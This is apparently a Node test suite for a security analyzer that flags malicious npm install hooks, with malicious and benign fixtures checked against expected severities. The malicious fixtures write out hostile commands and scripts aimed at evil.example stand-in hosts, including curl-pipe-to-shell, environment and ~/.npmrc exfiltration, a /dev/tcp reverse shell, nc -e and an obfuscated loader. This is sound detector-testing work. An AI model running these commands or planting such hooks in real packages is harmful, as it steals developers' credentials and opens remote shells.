import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { installScriptsAnalyzer } from '../../../src/security/analyzers/install-scripts/index.js';
import { SEVERITIES, type AnalyzerFinding, type Severity } from '../../../src/security/types.js';
import { analyzeFiles, type FileMap } from '../analyzer-harness.js';

function pkg(scripts: Record<string, string>, extra: Record<string, unknown> = {}): string {
  return JSON.stringify({ name: 'fixture', version: '1.0.0', scripts, ...extra }, null, 2);
}

const atLeast = (f: AnalyzerFinding, s: Severity): boolean => SEVERITIES.indexOf(f.severity) >= SEVERITIES.indexOf(s);
const worst = (findings: AnalyzerFinding[]): Severity => findings.reduce<Severity>((w, f) => (atLeast(f, w) ? f.severity : w), 'info');

interface Case {
  name: string;
  files: FileMap;
  /** Rules that must be reported (with at least this severity). */
  expect: Record<string, Severity>;
  /** File and line the first finding of the first expected rule points at. */
  at?: { file: string; line?: number };
}

// An esbuild-style installer: picks the platform package, falls back to downloading it,
// checks the binary runs. Network + child process, but no credential or environment access.
const ESBUILD_LIKE_INSTALL = `
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const child_process = require('child_process');
const zlib = require('zlib');
const pkgFor = { 'linux x64 LE': '@tool/linux-x64', 'darwin arm64 LE': '@tool/darwin-arm64' };
const key = process.platform + ' ' + os.arch() + ' ' + os.endianness();
const { npm_config_user_agent } = process.env;
function fetch(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      if ((res.statusCode === 301 || res.statusCode === 302) && res.headers.location) return fetch(res.headers.location).then(resolve, reject);
      const chunks = [];
      res.on('data', (c) => chunks.push(c)).on('end', () => resolve(Buffer.concat(chunks)));
    }).on('error', reject);
  });
}
function installUsingNpm(pkg, version) {
  const env = { ...process.env, npm_config_global: undefined };
  child_process.execSync(\`npm install --loglevel=error --prefer-offline --no-audit --progress=false \${pkg}@\${version}\`, { cwd: os.tmpdir(), stdio: 'pipe', env });
}
async function downloadDirectly(pkg, version, binPath) {
  const url = \`https://registry.example/\${pkg}/-/\${pkg.split('/')[1]}-\${version}.tgz\`;
  const bytes = zlib.unzipSync(await fetch(url));
  fs.writeFileSync(binPath, bytes);
  fs.chmodSync(binPath, 493);
}
function validate(binPath) {
  const out = child_process.execFileSync(binPath, ['--version']).toString().trim();
  if (out !== '1.0.0') throw new Error('bad binary');
}
module.exports = { pkgFor, key, installUsingNpm, downloadDirectly, validate, npm_config_user_agent };
`;

// core-js style funding banner behind `node -e "try{require('./postinstall')}catch(e){}"`.
const FUNDING_BANNER = `
var env = process.env;
var ADBLOCK = is(env.ADBLOCK);
var COLOR = is(env.npm_config_color);
var DISABLE_OPENCOLLECTIVE = is(env.DISABLE_OPENCOLLECTIVE);
var SILENT = ['silent', 'error', 'warn'].indexOf(env.npm_config_loglevel) !== -1;
function is(it) { return !!it && it !== '0' && it !== 'false'; }
if (!ADBLOCK && !DISABLE_OPENCOLLECTIVE && !SILENT) {
  console.log((COLOR ? '\\u001B[96m' : '') + 'Thank you for using this package! Please consider supporting it.' + (COLOR ? '\\u001B[0m' : ''));
}
`;

const STEALER = `
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');
const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const req = https.request({ hostname: 'collect.evil.example', method: 'POST', path: '/' });
req.end(npmrc);
`;

const RECON = `
const os = require("os");
const dns = require("dns");
const data = { h: os.hostname(), u: os.userInfo().username, d: __dirname };
const hex = Buffer.from(JSON.stringify(data)).toString("hex");
dns.lookup(hex.slice(0, 60) + ".probe.evil.example", () => {});
`;

const OBFUSCATED = `
var _0x1a2b=['log','http','get','env'];(function(_0x3c4d5e,_0x1f2e3d){var _0x4a5b6c=function(_0x7d8e9f){while(--_0x7d8e9f){_0x3c4d5e['push'](_0x3c4d5e['shift']());}};_0x4a5b6c(++_0x1f2e3d);}(_0x1a2b,0x1b3));
var _0x5e6f=function(_0x2a3b4c,_0x5d6e7f){_0x2a3b4c=_0x2a3b4c-0x0;var _0x8a9b0c=_0x1a2b[_0x2a3b4c];return _0x8a9b0c;};
require(_0x5e6f('0x1'))[_0x5e6f('0x2')]('http://evil.example/p');
`;

const malicious: Case[] = [
  {
    name: 'curl piped to sh',
    files: { 'package.json': pkg({ preinstall: 'curl -s https://evil.example/x.sh | sh' }) },
    expect: { 'install-scripts/pipe-to-shell': 'critical' },
    at: { file: 'package.json', line: 5 },
  },
  {
    name: 'wget piped to bash with arguments',
    files: { 'package.json': pkg({ postinstall: 'wget -qO- http://evil.example/p | bash -s -- --quiet' }) },
    expect: { 'install-scripts/pipe-to-shell': 'critical' },
  },
  {
    name: 'curl piped to node',
    files: { 'package.json': pkg({ install: 'curl -fsSL https://evil.example/p.js | node' }) },
    expect: { 'install-scripts/pipe-to-shell': 'critical' },
  },
  {
    name: 'download substituted into sh -c',
    files: { 'package.json': pkg({ postinstall: 'bash -c "$(curl -fsSL https://evil.example/i)"' }) },
    expect: { 'install-scripts/pipe-to-shell': 'critical' },
  },
  {
    name: 'process substitution of a download',
    files: { 'package.json': pkg({ postinstall: 'bash <(wget -qO- https://evil.example/i)' }) },
    expect: { 'install-scripts/pipe-to-shell': 'critical' },
  },
  {
    name: 'download, chmod +x and run',
    files: { 'package.json': pkg({ postinstall: 'curl -o /tmp/updater https://evil.example/u && chmod +x /tmp/updater && /tmp/updater' }) },
    expect: { 'install-scripts/download-execute': 'critical' },
  },
  {
    name: 'download with bundled curl options, chmod +x and run',
    files: { 'package.json': pkg({ postinstall: 'curl -fsSLo /tmp/updater https://evil.example/u && chmod +x /tmp/updater && /tmp/updater' }) },
    expect: { 'install-scripts/download-execute': 'critical' },
  },
  {
    name: 'download with the file glued to the option bundle, then run it',
    files: { 'package.json': pkg({ postinstall: 'curl -sLo/tmp/updater https://evil.example/u; sh /tmp/updater' }) },
    expect: { 'install-scripts/download-execute': 'critical' },
  },
  {
    name: 'wget to a file then run it with sh',
    files: { 'package.json': pkg({ preinstall: 'wget https://evil.example/run.sh; sh run.sh' }) },
    expect: { 'install-scripts/download-execute': 'critical' },
  },
  {
    name: 'base64 decoded into sh',
    files: { 'package.json': pkg({ preinstall: 'echo Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo | base64 -d | sh' }) },
    expect: { 'install-scripts/decode-execute': 'critical' },
  },
  {
    name: 'eval of a decoded substitution',
    files: { 'package.json': pkg({ postinstall: 'eval "$(echo ZWNobyBoaQ== | base64 --decode)"' }) },
    expect: { 'install-scripts/decode-execute': 'critical' },
  },
  {
    name: 'PowerShell encoded command',
    files: { 'package.json': pkg({ postinstall: 'powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=' }) },
    expect: { 'install-scripts/decode-execute': 'critical' },
  },
  {
    name: 'PowerShell download cradle',
    files: { 'package.json': pkg({ preinstall: `powershell -c "iex (New-Object Net.WebClient).DownloadString('http://evil.example/a')"` }) },
    expect: { 'install-scripts/pipe-to-shell': 'critical' },
  },
  {
    name: 'node -e sending the environment',
    files: { 'package.json': pkg({ preinstall: `node -e "require('https').get('https://evil.example/?d='+JSON.stringify(process.env))"` }) },
    expect: { 'install-scripts/inline-code': 'high', 'install-scripts/env-exfiltration': 'critical' },
  },
  {
    name: 'python -c downloading and executing',
    files: { 'package.json': pkg({ postinstall: `python3 -c "import urllib.request;exec(urllib.request.urlopen('http://evil.example/p').read())"` }) },
    expect: { 'install-scripts/inline-code': 'high' },
  },
  {
    name: 'env posted with curl',
    files: { 'package.json': pkg({ preinstall: 'curl -X POST -d "$(env)" https://evil.example/c' }) },
    expect: { 'install-scripts/env-exfiltration': 'critical' },
  },
  {
    name: 'printenv piped to nc',
    files: { 'package.json': pkg({ preinstall: 'printenv | nc evil.example 80' }) },
    expect: { 'install-scripts/env-exfiltration': 'critical', 'install-scripts/network': 'critical' },
  },
  {
    name: 'npmrc piped to curl',
    files: { 'package.json': pkg({ postinstall: 'cat ~/.npmrc | curl -d @- https://evil.example/t' }) },
    expect: { 'install-scripts/credential-access': 'critical' },
  },
  {
    name: 'ssh key read without network',
    files: { 'package.json': pkg({ postinstall: 'cp $HOME/.ssh/id_rsa ./key.txt' }) },
    expect: { 'install-scripts/credential-access': 'high' },
  },
  {
    name: 'secret variable sent out',
    files: { 'package.json': pkg({ preinstall: 'curl "https://evil.example/?t=$NPM_TOKEN"' }) },
    expect: { 'install-scripts/credential-access': 'critical', 'install-scripts/network': 'high' },
  },
  {
    name: 'reverse shell through /dev/tcp',
    files: { 'package.json': pkg({ postinstall: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' }) },
    expect: { 'install-scripts/network': 'critical' },
  },
  {
    name: 'netcat with -e',
    files: { 'package.json': pkg({ postinstall: 'nc -e /bin/sh evil.example 4444' }) },
    expect: { 'install-scripts/network': 'critical' },
  },
  {
    name: 'DNS exfiltration of the user name',
    files: { 'package.json': pkg({ preinstall: 'nslookup $(whoami).$(hostname).probe.evil.example' }) },
    expect: { 'install-scripts/network': 'high', 'install-scripts/sysinfo-exfiltration': 'high' },
  },
  {
    name: 'shipped JS stealing ~/.npmrc',
    files: { 'package.json': pkg({ postinstall: 'node index.js' }), 'index.js': STEALER },
    expect: { 'install-scripts/credential-access': 'critical', 'install-scripts/runs-package-file': 'info' },
    at: { file: 'index.js', line: 6 },
  },
  {
    name: 'shipped JS reconnaissance over DNS',
    files: { 'package.json': pkg({ preinstall: 'node preinstall.js' }), 'preinstall.js': RECON },
    expect: { 'install-scripts/sysinfo-exfiltration': 'high' },
    at: { file: 'preinstall.js', line: 4 },
  },
  {
    name: 'shipped JS serializing the environment',
    files: {
      'package.json': pkg({ postinstall: 'node ./lib/setup' }),
      'lib/setup.js': `const https = require('node:https');\nconst body = JSON.stringify(process.env);\nhttps.request('https://evil.example', { method: 'POST' }).end(body);\n`,
    },
    expect: { 'install-scripts/env-exfiltration': 'critical' },
    at: { file: 'lib/setup.js', line: 2 },
  },
  {
    name: 'shipped obfuscated JS',
    files: { 'package.json': pkg({ postinstall: 'node o.js' }), 'o.js': OBFUSCATED },
    expect: { 'install-scripts/obfuscated-script': 'high' },
  },
  {
    name: 'shipped JS decoding and evaluating',
    files: { 'package.json': pkg({ install: 'node i.js' }), 'i.js': `const p = 'Y29uc29sZS5sb2coMSk=';\nconst code = Buffer.from(p, 'base64').toString();\neval(code);\n` },
    expect: { 'install-scripts/decode-execute': 'critical' },
    at: { file: 'i.js', line: 3 },
  },
  {
    name: 'shipped JS running curl | sh through child_process',
    files: { 'package.json': pkg({ postinstall: 'node setup.js' }), 'setup.js': `const { execSync } = require('child_process');\n\nexecSync('curl -s https://evil.example/i | sh');\n` },
    expect: { 'install-scripts/pipe-to-shell': 'critical' },
    at: { file: 'setup.js', line: 3 },
  },
  {
    name: 'shipped JS required from node -e, then another file',
    files: {
      'package.json': pkg({ postinstall: `node -e "try{require('./scripts/post')}catch(e){}"` }),
      'scripts/post.js': `require('./collect.js');\n`,
      'scripts/collect.js': STEALER,
    },
    expect: { 'install-scripts/credential-access': 'critical' },
    at: { file: 'scripts/collect.js', line: 6 },
  },
  {
    name: 'shipped shell script with a pipe to sh',
    files: { 'package.json': pkg({ preinstall: 'sh ./install.sh' }), 'install.sh': '#!/bin/sh\nset -e\nOS=$(uname -s)\ncurl -fsSL "https://evil.example/$OS" | sh\n' },
    expect: { 'install-scripts/pipe-to-shell': 'critical' },
    at: { file: 'install.sh', line: 4 },
  },
  {
    name: 'executable file found by its shebang',
    files: { 'package.json': pkg({ postinstall: './bin/post' }), 'bin/post': '#!/usr/bin/env python3\nimport os, json, urllib.request\nurllib.request.urlopen("http://evil.example", data=json.dumps(dict(os.environ)).encode())\n' },
    expect: { 'install-scripts/env-exfiltration': 'critical' },
    at: { file: 'bin/post', line: 3 },
  },
  {
    name: 'npm run indirection',
    files: { 'package.json': pkg({ postinstall: 'npm run setup', setup: 'curl https://evil.example/s | sh' }) },
    expect: { 'install-scripts/pipe-to-shell': 'critical' },
  },
  {
    name: 'binding.gyp command expansion',
    files: {
      'package.json': pkg({}),
      'binding.gyp': `{\n  "targets": [{\n    "target_name": "x",\n    "sources": ["<!(curl -s https://evil.example/g | sh)"]\n  }]\n}\n`,
    },
    expect: { 'install-scripts/pipe-to-shell': 'critical', 'install-scripts/hook': 'info' },
    at: { file: 'binding.gyp', line: 4 },
  },
  {
    name: 'plain curl download in a hook',
    files: { 'package.json': pkg({ postinstall: 'curl -sSL https://evil.example/data.json -o data.json' }) },
    expect: { 'install-scripts/network': 'high' },
  },
  {
    name: 'bundled native executable run directly',
    files: { 'package.json': pkg({ postinstall: './bin/helper' }), 'bin/helper': Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(64)]) },
    expect: { 'install-scripts/runs-binary': 'medium' },
  },
];

const benign: Case[] = [
  { name: 'node-gyp rebuild', files: { 'package.json': pkg({ install: 'node-gyp rebuild' }) }, expect: { 'install-scripts/hook': 'info' } },
  { name: 'prebuild-install with fallback', files: { 'package.json': pkg({ install: 'prebuild-install || node-gyp rebuild --release' }) }, expect: { 'install-scripts/hook': 'info' } },
  { name: 'node-pre-gyp', files: { 'package.json': pkg({ install: 'node-pre-gyp install --fallback-to-build' }) }, expect: { 'install-scripts/hook': 'info' } },
  { name: 'node-gyp-build', files: { 'package.json': pkg({ install: 'node-gyp-build' }) }, expect: { 'install-scripts/hook': 'info' } },
  {
    name: 'implicit node-gyp rebuild with node-addon-api include',
    files: { 'package.json': pkg({}), 'binding.gyp': `{ "targets": [{ "target_name": "a", "include_dirs": ["<!(node -p \\"require('node-addon-api').include\\")"] }] }` },
    expect: { 'install-scripts/hook': 'info' },
    at: { file: 'binding.gyp' },
  },
  { name: 'husky install', files: { 'package.json': pkg({ prepare: 'husky install' }) }, expect: { 'install-scripts/hook': 'info' } },
  { name: 'patch-package', files: { 'package.json': pkg({ postinstall: 'patch-package' }) }, expect: { 'install-scripts/hook': 'info' } },
  { name: 'opencollective-postinstall', files: { 'package.json': pkg({ postinstall: 'opencollective-postinstall || true' }) }, expect: { 'install-scripts/hook': 'info' } },
  { name: 'tsc build in prepare', files: { 'package.json': pkg({ prepare: 'npm run build', build: 'tsc -p tsconfig.build.json && rollup -c' }) }, expect: { 'install-scripts/hook': 'info' } },
  {
    name: 'esbuild-style platform binary installer',
    files: { 'package.json': pkg({ postinstall: 'node install.js' }), 'install.js': ESBUILD_LIKE_INSTALL },
    expect: { 'install-scripts/runs-package-file': 'info', 'install-scripts/network': 'low' },
  },
  {
    name: 'funding banner through node -e require',
    files: { 'package.json': pkg({ postinstall: `node -e "try{require('./postinstall')}catch(e){}"` }), 'postinstall.js': FUNDING_BANNER },
    expect: { 'install-scripts/runs-package-file': 'info' },
  },
  {
    name: 'shell script choosing a bundled binary',
    files: { 'package.json': pkg({ postinstall: 'sh scripts/link.sh' }), 'scripts/link.sh': '#!/bin/sh\ncase "$(uname -s)" in\n  Linux) cp bin/linux/tool bin/tool ;;\n  Darwin) cp bin/darwin/tool bin/tool ;;\nesac\nchmod +x bin/tool\n' },
    expect: { 'install-scripts/runs-package-file': 'info' },
  },
  {
    name: 'engine check that exits quietly',
    files: { 'package.json': pkg({ preinstall: 'node ./scripts/check-engines.js || exit 0' }), 'scripts/check-engines.js': `const [major] = process.versions.node.split('.');\nif (Number(major) < 18) { console.error('Node 18+ required'); process.exit(1); }\n` },
    expect: { 'install-scripts/runs-package-file': 'info' },
  },
  {
    name: 'browser download into the user cache',
    files: {
      'package.json': pkg({ postinstall: 'node install.mjs' }),
      'install.mjs': `import https from 'node:https';\nimport os from 'node:os';\nimport path from 'node:path';\nconst cache = process.env.TOOL_CACHE_DIR ?? path.join(os.homedir(), '.cache', 'tool');\nif (!process.env.TOOL_SKIP_DOWNLOAD) https.get('https://downloads.example/browser-' + process.platform + '.zip', (res) => res.resume());\nexport { cache };\n`,
    },
    expect: { 'install-scripts/network': 'low' },
  },
  {
    name: 'installer forwarding npm_config_* variables to a child process',
    files: {
      'package.json': pkg({ install: 'node scripts/fetch-binary.js' }),
      'scripts/fetch-binary.js': `const https = require('https');\nconst { spawnSync } = require('child_process');\nconst forwarded = Object.keys(process.env).filter((k) => k.startsWith('npm_config_'));\nconst proxy = process.env.HTTPS_PROXY || process.env.npm_config_https_proxy;\ndelete process.env.GITHUB_TOKEN;\nhttps.get('https://downloads.example/bin-' + process.platform, (res) => res.resume());\nspawnSync('tar', ['xzf', 'bin.tgz'], { env: { ...process.env } });\nmodule.exports = { forwarded, proxy };\n`,
    },
    expect: { 'install-scripts/network': 'low' },
  },
  {
    name: 'git hooks path in prepare',
    files: { 'package.json': pkg({ prepare: 'git config core.hooksPath .githooks || true' }) },
    expect: { 'install-scripts/hook': 'info' },
  },
  { name: 'no hooks at all', files: { 'package.json': pkg({ test: 'curl https://evil.example | sh', build: 'tsc' }) }, expect: {} },
  { name: 'gypfile false disables the implicit hook', files: { 'package.json': pkg({}, { gypfile: false }), 'binding.gyp': '{}' }, expect: {} },
];

describe('install-scripts analyzer', () => {
  it('has the expected identity', () => {
    assert.equal(installScriptsAnalyzer.id, 'install-scripts');
    assert.equal(installScriptsAnalyzer.cacheable, true);
  });

  describe('malicious hooks reach their rule at high or critical', () => {
    for (const c of malicious) {
      it(c.name, async () => {
        const findings = await analyzeFiles(installScriptsAnalyzer, c.files);
        for (const [rule, severity] of Object.entries(c.expect)) {
          const hit = findings.filter((f) => f.rule === rule);
          assert.ok(hit.length > 0, `${rule} missing; got ${JSON.stringify(findings.map((f) => [f.rule, f.severity]))}`);
          assert.ok(hit.some((f) => atLeast(f, severity)), `${rule} below ${severity}: ${hit.map((f) => f.severity).join(',')}`);
        }
        if (c.at !== undefined) {
          const rule = Object.keys(c.expect)[0] as string;
          const first = findings.find((f) => f.rule === rule);
          assert.deepEqual(first?.location, c.at);
        }
        for (const f of findings) {
          assert.ok((f.evidence ?? '').length <= 200, 'evidence too long');
          assert.match(f.rule, /^install-scripts\/[a-z-]+$/);
        }
        assert.ok(findings.some((f) => f.rule === 'install-scripts/hook'), 'every present hook is reported');
      });
    }
  });

  describe('benign hooks stay low or info', () => {
    for (const c of benign) {
      it(c.name, async () => {
        const findings = await analyzeFiles(installScriptsAnalyzer, c.files);
        assert.ok(!findings.some((f) => atLeast(f, 'medium')), `too severe: ${JSON.stringify(findings.filter((f) => atLeast(f, 'medium')).map((f) => [f.rule, f.severity, f.message]))}`);
        for (const [rule, severity] of Object.entries(c.expect)) {
          assert.ok(
            findings.some((f) => f.rule === rule && f.severity === severity),
            `${rule}/${severity} missing: ${JSON.stringify(findings.map((f) => [f.rule, f.severity]))}`,
          );
        }
        if (Object.keys(c.expect).length === 0) assert.deepEqual(findings, []);
        if (c.at !== undefined) assert.deepEqual(findings[0]?.location, c.at);
      });
    }
  });

  it('reports the hook with its command as evidence and its package.json line', async () => {
    const findings = await analyzeFiles(installScriptsAnalyzer, { 'package.json': pkg({ postinstall: 'node install.js' }) });
    const hook = findings.find((f) => f.rule === 'install-scripts/hook');
    assert.equal(hook?.severity, 'info');
    assert.equal(hook?.evidence, '"postinstall": "node install.js"');
    assert.deepEqual(hook?.location, { file: 'package.json', line: 5 });
    const missing = findings.find((f) => f.rule === 'install-scripts/runs-package-file');
    assert.match(missing?.message ?? '', /not in the package/);
  });

  it('caps prepare findings at low: it only runs for git dependencies', async () => {
    const findings = await analyzeFiles(installScriptsAnalyzer, { 'package.json': pkg({ prepare: 'curl -s https://evil.example/x | sh' }) });
    const pipe = findings.find((f) => f.rule === 'install-scripts/pipe-to-shell');
    assert.equal(pipe?.severity, 'low');
    assert.match(pipe?.message ?? '', /git repository/);
    assert.ok(!findings.some((f) => atLeast(f, 'medium')));
  });

  it('the same scripts under a non-install name are not install scripts', async () => {
    const findings = await analyzeFiles(installScriptsAnalyzer, { 'package.json': pkg({ start: 'curl -s https://evil.example/x | sh' }) });
    assert.deepEqual(findings, []);
  });

  it('does not apply to other ecosystems', () => {
    assert.equal(installScriptsAnalyzer.appliesTo({ format: 'pypi', ecosystem: 'PyPI', name: 'x', version: '1', filename: 'x', sha256: '', size: 0, manifest: {} }), false);
  });

  it('follows a bounded number of files', async () => {
    const files: FileMap = { 'package.json': pkg({ postinstall: 'node f0.js' }) };
    for (let i = 0; i < 100; i++) files[`f${i}.js`] = `require('./f${i + 1}.js');\n`;
    files['f100.js'] = STEALER;
    const findings = await analyzeFiles(installScriptsAnalyzer, files);
    assert.ok(!findings.some((f) => f.location?.file === 'f100.js'));
  });

  it('is fast on a large hook file', async () => {
    const big = `${ESBUILD_LIKE_INSTALL}\n`.repeat(200);
    const started = performance.now();
    await analyzeFiles(installScriptsAnalyzer, { 'package.json': pkg({ postinstall: 'node install.js' }), 'install.js': big });
    const ms = performance.now() - started;
    assert.ok(ms < 2000, `${ms} ms for ${big.length} bytes`);
  });

  it('worst severity of a clean hook is info', async () => {
    const findings = await analyzeFiles(installScriptsAnalyzer, { 'package.json': pkg({ install: 'node-gyp rebuild' }) });
    assert.equal(worst(findings), 'info');
  });
});
